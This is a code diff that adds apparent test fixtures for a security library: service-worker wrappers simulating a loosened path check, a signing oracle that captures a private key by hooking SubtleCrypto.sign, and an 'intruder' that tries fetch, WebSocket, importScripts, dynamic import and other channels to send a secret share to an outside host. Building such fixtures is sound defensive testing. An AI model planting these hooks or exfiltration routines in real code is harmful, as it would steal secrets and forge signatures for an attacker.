@@ -68,3 +68,66 @@ export const withBlindHash =
   }
 })();
 ${source}`
+
+/** A worker that takes every address for the API's that has the API's path anywhere in it. */
+export const withLooseMatch = (source: string): string => `;(() => {
+  const { startsWith } = String.prototype
+  String.prototype.startsWith = function (start, ...rest) {
+    return start === '/api/v1/' ? this.includes(start) : startsWith.call(this, start, ...rest)
+  }
+})();
+${source}`
+
+/** A worker that signs what a page asks it to sign, with the key that its proofs are made with. */
+export const withOracle = (source: string): string => `;(() => {
+  const { sign } = SubtleCrypto.prototype
+  let known
+  SubtleCrypto.prototype.sign = function (algorithm, used, data) {
+    if (used.type === 'private') known = [algorithm, used]
+    return sign.call(this, algorithm, used, data)
+  }
+  self.addEventListener('message', (event) => {
+    const { data, ports } = event
+    if (data?.type !== 'session.prove' || known === undefined) return
+    event.stopImmediatePropagation()
+    const wanted = new TextEncoder().encode(data.text)
+    sign.call(crypto.subtle, ...known, wanted).then((made) => ports[0]?.postMessage({ made }))
+  })
+})();
+${source}`
+
+/** A worker into which the attacker's code has come: it tries every way out for what it knows. */
+export const withIntruder =
+  (outside: string) =>
+  (source: string): string =>
+    `;(() => {
+  const { share } = self.__holdfast
+  const away = ${JSON.stringify(outside)} + '/?share=' + share
+  const ways = {
+    fetch: () => fetch(away, { mode: 'no-cors' }),
+    cors: () => fetch(away),
+    keepalive: () => fetch(away, { mode: 'no-cors', keepalive: true, method: 'POST', body: share }),
+    script: () => importScripts(away),
+    socket: () => new WebSocket(away.replace('http', 'ws')),
+    events: () => new EventSource(away),
+    module: () => import(away),
+    code: () => new Function('address', 'return fetch(address)')(away),
+  }
+  self.addEventListener('message', (event) => {
+    if (event.data?.type !== 'session.intrude') return
+    event.stopImmediatePropagation()
+    const run = async () => {
+      const told = {}
+      for (const [name, way] of Object.entries(ways)) {
+        try {
+          told[name] = String(await way())
+        } catch (error) {
+          told[name] = error.name
+        }
+      }
+      event.ports[0]?.postMessage(told)
+    }
+    event.waitUntil(run())
+  })
+})();
+${source}`
